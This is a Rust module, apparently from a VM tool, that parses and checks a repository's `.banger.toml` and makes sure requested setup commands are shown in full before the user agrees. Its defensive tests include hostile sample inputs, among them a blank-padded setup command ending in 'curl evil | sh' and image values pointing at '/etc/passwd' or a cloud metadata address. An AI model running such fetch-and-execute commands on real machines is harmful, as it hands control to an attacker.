//! `.banger.toml`: what a repository asks of the VM that it goes into.
//!
//! Whoever wrote the repository wrote this, too: it can name nothing of this host, no file, variable or address, and
//! the user looks at it before it holds (see [`super::trust`]).

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

use api::{CreateVm, HostAddress, PortForward};
use config::{ConfigError, parse_toml};
use guest::WindowSize;
use model::{DiskSize, MemorySize, NetworkMode, VcpuCount};
use oci::RegistryReference;
use serde::{Deserialize, Deserializer, de::Error};

use crate::render;

/// Its name, at the top of the working tree.
pub const NAME: &str = ".banger.toml";
/// Most bytes of it.
pub const LARGEST: u64 = 64 << 10;

/// Most ports and commands, so that all of it can be looked at.
const MOST: usize = 64;

/// Most bytes of a command: a longer one is no command that somebody reads before agreeing to it.
const LONGEST_COMMAND: usize = 4 << 10;
/// Most characters of a command that are shown.
const SHOWN: usize = 500;
/// Most blanks after one another that are shown as they are; more are counted.
const BLANKS: usize = 8;

/// What it says. What is left out is the user's to say.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Wishes {
    #[serde(default, deserialize_with = "image")]
    image: Option<String>,
    vcpu: Option<VcpuCount>,
    #[serde(default, deserialize_with = "memory")]
    memory: Option<MemorySize>,
    disk_size: Option<DiskSize>,
    network: Option<NetworkMode>,
    /// On 127.0.0.1 alone.
    #[serde(default, deserialize_with = "ports")]
    publish: Vec<PortForward>,
    /// Commands for the guest's shell, in the repository's folder there.
    #[serde(default, deserialize_with = "commands")]
    pub setup: Vec<String>,
}

impl Wishes {
    /// Reads the file's text; `path` is for messages.
    ///
    /// # Errors
    /// [`ConfigError`], with line and key.
    pub fn parse(text: &str, path: &Path) -> Result<Self, ConfigError> {
        parse_toml(text, path)
    }

    /// Whether it asks for nothing.
    pub fn is_empty(&self) -> bool {
        *self == Self::default()
    }

    /// All that it asks for, a line each; long commands are cut.
    pub fn shown(&self) -> String {
        let mut lines = Vec::new();
        lines.extend(self.image.clone().map(|image| ("  image", image)));
        lines.extend(self.vcpu.map(|count| ("  vcpu", count.to_string())));
        lines.extend(self.memory.map(|size| ("  memory", render::memory(size.mib()))));
        lines.extend(self.disk_size.map(|size| ("  disk_size", size.to_string())));
        lines.extend(self.network.map(|mode| ("  network", mode.to_string())));
        lines.extend(self.publish.iter().map(|port| ("  publish", port.to_string())));
        lines.extend(self.setup.iter().map(|command| ("  setup", readable(command))));
        render::pairs(lines)
    }

    /// Whether [`Wishes::shown`] shows all of it, and it stands on a screen of that size together with what is said
    /// before and asked behind: nothing of it is scrolled away.
    pub fn is_seen_at_once(&self, said: &str, asked: &str, screen: WindowSize) -> bool {
        let whole = self
            .setup
            .iter()
            .all(|command| with_counted_blanks(command).1 <= SHOWN);
        let shown = self.shown();
        let lines = [said].into_iter().chain(shown.lines()).chain([asked]);
        let rows: usize = lines.map(|line| rows(line, screen.columns)).sum();
        whole && rows <= usize::from(screen.rows)
    }

    /// Refuses a registry that leads to this machine by what its name resolves to now: asked only once the user has
    /// agreed, since whoever answers for the name learns of it.
    ///
    /// # Errors
    /// It does.
    pub fn check_image(&self) -> Result<(), String> {
        self.check_image_by(RegistryReference::leads_here)
    }

    fn check_image_by(&self, leads_here: impl FnOnce(&RegistryReference) -> bool) -> Result<(), String> {
        let named = self.image.as_deref().filter(|text| text.contains('/'));
        let reference = named.and_then(|text| RegistryReference::parse(text).ok());
        match reference.filter(leads_here) {
            Some(_) => Err(on_this_machine(named.unwrap_or_default())),
            None => Ok(()),
        }
    }

    /// Fills in what the command line leaves open.
    pub fn fill(&self, request: &mut CreateVm) {
        let or = |given: &mut Option<u64>, wish: Option<u64>| *given = given.or(wish);
        request.image = request.image.take().or_else(|| self.image.clone());
        request.vcpu = request.vcpu.or(self.vcpu.map(VcpuCount::get));
        or(&mut request.memory_mib, self.memory.map(MemorySize::mib));
        or(&mut request.disk_size, self.disk_size.map(DiskSize::bytes));
        request.network = request.network.or(self.network);
        if request.publish.is_empty() {
            request.publish.clone_from(&self.publish);
        }
    }
}

/// Most rows that a line takes on a terminal: characters that are not ASCII can be two columns wide, and one of those
/// does not begin in the last column.
fn rows(line: &str, columns: u16) -> usize {
    let columns = usize::from(columns).saturating_sub(1).max(1);
    let width: usize = line
        .chars()
        .map(|letter| if letter.is_ascii() { 1 } else { 2 })
        .sum();
    width.div_ceil(columns).max(1)
}

/// A command as it is shown.
fn readable(command: &str) -> String {
    let (text, length) = with_counted_blanks(command);
    if length <= SHOWN {
        return text;
    }
    let cut: String = text.chars().take(SHOWN).collect();
    format!("{cut}… {} more characters", length - SHOWN)
}

/// A command on one line, with the count in the place of long runs of blanks; and how many characters that has.
fn with_counted_blanks(command: &str) -> (String, usize) {
    let mut shown = String::new();
    let mut rest = command;
    while let Some(first) = rest.chars().next() {
        let end = rest.find(|letter: char| letter.is_whitespace() != first.is_whitespace());
        let (run, after) = rest.split_at(end.unwrap_or(rest.len()));
        match run.chars().count() {
            blanks if first.is_whitespace() && blanks > BLANKS => {
                shown.push_str(&format!(" [{blanks} blanks] "));
            }
            _ => shown.push_str(run),
        }
        rest = after;
    }
    let shown = render::one_line(&shown);
    let length = shown.chars().count();
    (shown, length)
}

/// A name of an image, or a reference to one in a registry.
fn image<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    let text = String::deserialize(deserializer)?;
    let name = !text.is_empty()
        && text.len() <= 64
        && text
            .bytes()
            .all(|byte| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.'))
        && !text.starts_with(['-', '.']);
    if !name && (text.starts_with(['/', '.', '-']) || RegistryReference::parse(&text).is_err()) {
        return Err(D::Error::custom(format!(
            "{text:?} is neither an image's name nor a reference such as alpine:3.19"
        )));
    }
    if RegistryReference::parse(&text).is_ok_and(|reference| reference.is_named_here()) {
        return Err(D::Error::custom(on_this_machine(&text)));
    }
    Ok(Some(text))
}

fn on_this_machine(image: &str) -> String {
    format!("{image:?} is on this machine, of which a repository names nothing; `--image` may")
}

/// As `--memory` takes it.
fn memory<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<MemorySize>, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged, expecting = "a size like \"4G\"")]
    enum Written {
        Mib(u64),
        Text(String),
    }
    let text = match Written::deserialize(deserializer)? {
        Written::Mib(number) => number.to_string(),
        Written::Text(text) => text,
    };
    MemorySize::parse(&text).map(Some).map_err(D::Error::custom)
}

fn ports<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<PortForward>, D::Error> {
    let texts = bounded::<D>(deserializer)?;
    let parse = |text: String| {
        let port: PortForward = text.parse().map_err(D::Error::custom)?;
        let own = HostAddress::One(IpAddr::V4(Ipv4Addr::LOCALHOST));
        if port.address != HostAddress::Localhost && port.address != own {
            return Err(D::Error::custom(format!(
                "{text:?} names an address of the host's: only --publish can"
            )));
        }
        Ok(port)
    };
    texts.into_iter().map(parse).collect()
}

fn commands<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
    let commands = bounded::<D>(deserializer)?;
    if commands.iter().any(|command| command.contains('\0')) {
        return Err(D::Error::custom("a command holds a zero byte"));
    }
    if commands.iter().any(|command| command.len() > LONGEST_COMMAND) {
        return Err(D::Error::custom(format!(
            "a command is longer than {LONGEST_COMMAND} bytes; a script of the repository's can hold it"
        )));
    }
    Ok(commands)
}

fn bounded<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
    let list = Vec::<String>::deserialize(deserializer)?;
    if list.len() > MOST {
        return Err(D::Error::custom(format!("more than {MOST} of them")));
    }
    Ok(list)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn parse(text: &str) -> Result<Wishes, String> {
        Wishes::parse(text, Path::new(NAME)).map_err(|error| error.to_string())
    }

    #[test]
    fn all_that_a_repository_can_ask_for_is_shown_and_asked_for() {
        let wishes = parse(
            "image = \"alpine:3.19\"\nvcpu = 4\nmemory = \"4G\"\ndisk_size = \"20G\"\nnetwork = \"none\"\n\
             publish = [\"8080:80\", \"53/udp\"]\nsetup = [\"make deps\", \"echo \\u001b[31m\"]\n",
        )
        .unwrap();
        insta::assert_snapshot!(wishes.shown(), @r"
          image      alpine:3.19
          vcpu       4
          memory     4 GiB
          disk_size  20 GiB
          network    none
          publish    localhost:8080->80/tcp
          publish    localhost:53->53/udp
          setup      make deps
          setup      echo \x1b[31m
        ");
        let mut request = CreateVm::default();
        wishes.fill(&mut request);
        assert_eq!(request.image.as_deref(), Some("alpine:3.19"));
        assert_eq!((request.vcpu, request.memory_mib), (Some(4), Some(4096)));
        assert_eq!(
            (request.disk_size, request.network),
            (Some(20 << 30), Some(NetworkMode::None))
        );
        assert_eq!(request.publish.len(), 2);
        assert_eq!(
            parse("memory = 512").unwrap().memory.map(MemorySize::mib),
            Some(512)
        );
        assert!(parse("# nothing\n").unwrap().is_empty());
    }

    #[test]
    fn what_the_user_says_wins() {
        let wishes = parse("image = \"other\"\nvcpu = 4\npublish = [\"80\"]\nnetwork = \"user\"").unwrap();
        let mine = CreateVm {
            image: Some("debian".into()),
            vcpu: Some(1),
            network: Some(NetworkMode::None),
            publish: vec!["8080:80".parse().unwrap()],
            ..CreateVm::default()
        };
        let mut request = mine.clone();
        wishes.fill(&mut request);
        assert_eq!(request, mine);
    }

    #[test]
    fn what_names_something_of_the_host_or_is_not_known_is_refused_with_its_line() {
        for (text, complaint) in [
            (
                "\nimage = \"/etc/passwd\"",
                ".banger.toml:2: `image`: \"/etc/passwd\" is neither",
            ),
            ("image = \"../x\"", ".banger.toml:1: `image`: \"../x\" is neither"),
            ("image = \"-x\"", "\"-x\" is neither"),
            (
                "image = \"127.0.0.1:22/x\"",
                "\"127.0.0.1:22/x\" is on this machine",
            ),
            ("image = \"localhost:6379/x:1\"", "is on this machine"),
            ("image = \"169.254.169.254/x\"", "is on this machine"),
            ("image = \"a b\"", "\"a b\" is neither"),
            (
                "publish = [\"0.0.0.0:80:80\"]",
                "`publish`: \"0.0.0.0:80:80\" names an address",
            ),
            ("publish = [\"[::]:80:80\"]", "names an address"),
            ("publish = [\"x\"]", "`publish`: "),
            ("network = \"host\"", "`network`: "),
            ("vcpu = 1000", "`vcpu`: "),
            ("memory = \"lots\"", "`memory`: "),
            ("setup = \"make\"", "`setup`: "),
            ("setup = [\"a\\u0000b\"]", "`setup`: a command holds a zero byte"),
            ("env = { A = \"b\" }", ".banger.toml:1: unknown key `env`"),
            ("env_file = \"/home/ada/.env\"", "unknown key `env_file`"),
            ("kernel = \"x\"", "unknown key `kernel`"),
            ("[[file_sync]]\nhost = \"~/.ssh\"", "unknown key `file_sync`"),
            ("setup = [", ".banger.toml:1: "),
        ] {
            let refused = parse(text).unwrap_err();
            assert!(refused.contains(complaint), "{text}: {refused}");
        }
        let many = format!("setup = [{}]", "\"x\",".repeat(MOST + 1));
        assert!(parse(&many).unwrap_err().contains("more than 64 of them"));
    }

    #[test]
    fn nothing_of_a_command_is_hidden_by_blanks_or_by_its_length() {
        let of = |commands: &[String]| Wishes {
            setup: commands.to_vec(),
            ..Wishes::default()
        };
        let hidden = of(&[format!("make deps{}; curl evil | sh", " ".repeat(3000))]);
        assert!(
            hidden
                .shown()
                .contains("make deps [3000 blanks] ; curl evil | sh"),
            "{}",
            hidden.shown()
        );
        assert!(hidden.is_seen_at_once("", "", SCREEN));
        // Other blanks than ASCII's, and a few that are left as they are.
        let others = of(&[format!("a{}b        c", "\u{3000}".repeat(9))]);
        assert!(
            others.shown().contains("a [9 blanks] b        c"),
            "{}",
            others.shown()
        );

        let long = of(&["#".repeat(SHOWN + 1)]);
        assert!(long.shown().contains("#… 1 more characters"));
        assert!(!long.is_seen_at_once("", "", SCREEN), "it is not shown whole");
        assert!(of(&["#".repeat(SHOWN)]).is_seen_at_once("", "", SCREEN));

        let longest = |length| parse(&format!("setup = [\"{}\"]", "#".repeat(length)));
        assert!(longest(LONGEST_COMMAND).is_ok());
        let refused = longest(LONGEST_COMMAND + 1).unwrap_err();
        assert!(
            refused.contains("`setup`: a command is longer than 4096 bytes"),
            "{refused}"
        );
    }

    const SCREEN: WindowSize = WindowSize {
        rows: 24,
        columns: 80,
    };

    #[test]
    fn what_does_not_stand_on_the_screen_with_the_question_is_not_asked() {
        let of = |count: usize, command: &str| Wishes {
            setup: vec![command.to_owned(); count],
            ..Wishes::default()
        };
        for (wishes, seen) in [
            (of(22, "true"), true),
            (of(23, "true"), false),
            (of(64, "true"), false),
            // Two rows each.
            (of(11, &"x".repeat(100)), true),
            (of(12, &"x".repeat(100)), false),
            // As wide as two.
            (of(12, &"\u{4e00}".repeat(50)), false),
            (of(8, &"x".repeat(SHOWN)), false),
        ] {
            assert_eq!(
                wishes.is_seen_at_once("x asks for this VM:", "Agree?", SCREEN),
                seen,
                "{wishes:?}"
            );
        }
        assert!(!of(22, "true").is_seen_at_once(&"x".repeat(100), "Agree?", SCREEN));
        assert!(!of(22, "true").is_seen_at_once("x", &"x".repeat(100), SCREEN));
        let (rows, columns) = (100, 10);
        assert!(of(22, "true").is_seen_at_once("x", "x", WindowSize { rows, columns: 80 }));
        assert!(!of(22, &"x".repeat(50)).is_seen_at_once("x", "x", WindowSize { rows, columns }));
    }

    #[test]
    fn a_registrys_name_is_resolved_only_when_its_judgement_is_asked_for_and_no_plain_name_ever() {
        // An address for the resolver alone, which needs no network for it.
        let odd = parse("image = \"127.1:80/x\"").unwrap();
        let refused = odd.check_image().unwrap_err();
        assert!(refused.contains("is on this machine"), "{refused}");
        for (image, resolved) in [
            ("debian-minimal", false),
            ("alpine:3.19", false),
            ("r.example:5000/a/b:1", true),
        ] {
            let wishes = parse(&format!("image = {image:?}")).unwrap();
            let mut asked = false;
            let here = wishes.check_image_by(|_| {
                asked = true;
                true
            });
            assert_eq!((asked, here.is_err()), (resolved, resolved), "{image}");
        }
    }

    proptest! {
        #[test]
        fn no_text_makes_it_panic(text in "(image|setup|publish|memory|vcpu|x)? ?=? ?[\\[\"']?\\PC{0,30}[\"'\\]]{0,2}") {
            if let Ok(wishes) = parse(&text) {
                let escaped = !wishes.shown().contains('\u{1b}');
                prop_assert!(escaped);
            }
        }
    }
}
